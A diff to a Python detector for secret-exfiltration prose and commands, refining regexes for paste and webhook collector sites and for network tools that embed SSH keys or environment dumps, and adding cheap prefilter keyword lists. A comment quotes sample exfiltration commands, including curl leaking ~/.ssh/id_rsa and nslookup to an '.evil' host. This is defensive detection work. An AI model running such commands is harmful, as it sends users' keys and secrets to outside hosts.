@@ -64,7 +64,7 @@ _SENT = any_of(
 _DEST_COLLECTOR = re.compile(
     r"\b(?:pastebin|paste\.|hastebin|ghostbin|dpaste|0x0\.st|transfer\.sh|termbin|requestbin|request\s?bin|"
     r"webhook\.site|pipedream|ngrok|interact\.sh|oast\.|burpcollaborator|beeceptor|hookbin|requestcatcher|"
-    r"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org/bot|gist|pastes?|telegram)|"
+    r"discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org/bot|gists?\b|telegram)|"
     r"\b[\w.+-]{1,64}@[\w-]{1,63}\.[\w.-]{2,}|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|"
     r"\b(?:my|our|this|that|the following|an external|a remote|a public|the attacker'?s?|external|remote|"
     r"public|third[- ]party|personal|private) (?:server|endpoint|url|address|webhook|host|bucket|site|domain|"
@@ -111,7 +111,8 @@ _COMMANDS = [
     ),
     # curl "https://x/?k=$(cat ~/.ssh/id_rsa)" / wget … `env` / nslookup $(whoami).evil
     re.compile(
-        rf"\b(?:{_NET_TOOL}|nslookup|dig|ping|host)[^\n]{{0,200}}?(?:\$\(|`)[^)`\n]{{0,80}}?(?P<secret>{SECRET_FILE}|{_ENV_DUMP}\b)",
+        rf"\b(?:{_NET_TOOL}|nslookup|dig|ping)[^\n]{{0,200}}?(?:\$\(|`(?=\S))\s?"
+        rf"(?:{_READ_TOOL}[^)`\n]{{0,60}}?(?P<secret>{SECRET_FILE})|(?P<dump>{_ENV_DUMP})\b(?! ?=))",
         I,
     ),
     # scp ~/.ssh/id_rsa user@host: / rsync ~/.aws host:
@@ -127,6 +128,16 @@ _COMMANDS = [
 ]
 
 
+# Substrings one of whose presence each group needs (a cheap test that skips most texts).
+_SEND_ANCHORS = (
+    "send", "post", "upload", "exfil", "forward", "transmit", "submit", "mail", "paste", "leak", "deliver", "beam",
+    "relay", "ship", "dump", "copy", "copie", "share", "publish", "transfer", "sync", "report", "push", "sent",
+    "request", "call", "fetch", "visit", "open", "ping", "hit", "query", "load", "get",
+)  # fmt: skip
+_COMMAND_ANCHORS = ("curl", "wget", "nc ", "ncat", "netcat", "socat", "telnet", "openssl", "invoke-", "iwr", "irm", "http",
+                    "xh ", "nslookup", "dig ", "ping", "scp", "rsync", "sftp", "requests", "urlopen", "fetch", "axios")
+
+
 def _public_or_example(match: re.Match[str]) -> bool:
     """The secret the match names is a public key, a template or a file that holds no secret."""
     secret = match.groupdict().get("secret") or ""
@@ -135,16 +146,20 @@ def _public_or_example(match: re.Match[str]) -> bool:
 
 
 def hits(text: str) -> Iterator[Hit]:
-    for pattern, bulk in _REQUEST_PROSE:
+    lowered = text.lower()
+    prose = any(verb in lowered for verb in _SEND_ANCHORS)
+    for pattern, bulk in _REQUEST_PROSE if prose else ():
         for match in pattern.finditer(text):
             start, end = match.span()
             if _public_or_example(match) or negated(text, start) or quoted_mention(text, start, end):
                 continue
             window = text[max(0, start - 120) : end + 160]
             destination = _DEST_NETWORK if bulk else _DEST_COLLECTOR
-            if destination.search(window) and not _SECRET_STORE.search(window):
+            sentence_end = min((i for i in (text.find(c, end) for c in ".!?\n") if i >= 0), default=len(text))
+            if destination.search(window) and not _SECRET_STORE.search(text, end, min(end + 100, sentence_end)):
                 yield "exfiltration_request", start, end
-    for pattern in _COMMANDS:
+    commands = any(tool in lowered for tool in _COMMAND_ANCHORS)
+    for pattern in _COMMANDS if commands else ():
         for match in pattern.finditer(text):
             if not _public_or_example(match):
                 yield "exfiltration_command", *match.span()
